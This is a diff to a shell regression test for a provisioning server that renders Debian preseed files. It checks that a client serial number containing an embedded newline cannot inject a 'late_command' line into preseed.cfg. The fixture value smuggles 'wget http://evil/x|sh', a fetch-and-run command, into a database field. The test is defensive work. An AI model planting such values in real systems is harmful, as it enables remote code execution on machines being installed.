@@ -50,7 +50,7 @@ get() {	# get WANT URL: fetch from the victim's address into $T/b
 	got=$(curl -s -o "$T/b" -w '%{http_code}' --interface 127.0.0.2 "$2")
 	[ "$got" = "$1" ] || fail "$2: status $got, expected $1 ($(head -c 300 "$T/b"))"
 }
-serial() { sqlite3 "$DB" "SELECT json_extract(inventory, '\$.serial') FROM clients WHERE mac = '$V'"; }
+serial() { db_sql "SELECT json_extract(inventory, '\$.serial') FROM clients WHERE mac = '$V'"; }
 stored() { [ "$(serial)" = "$1" ]; }
 # report QUERY-VALUE STORED: /boot with serial=QUERY-VALUE, then wait for the batched write.
 report() {
@@ -83,7 +83,7 @@ grep -q '^d-i preseed/late_command string wget' "$T/b" && fail "planted line in 
 # template engine keeps it on its line by itself. (After the batched
 # write of the last /boot, which would overwrite it.)
 sleep 0.5
-sqlite3 "$DB" "UPDATE clients SET inventory = json_object('serial', 'x' || char(10) ||
+db_sql "UPDATE clients SET inventory = json_object('serial', 'x' || char(10) ||
     'd-i preseed/late_command string wget http://evil/x|sh') WHERE mac = '$V'"
 [ "$(serial | wc -l)" = 2 ] || fail "the stored serial has no newline: $(serial)"
 get 200 "$TV/preseed.cfg"
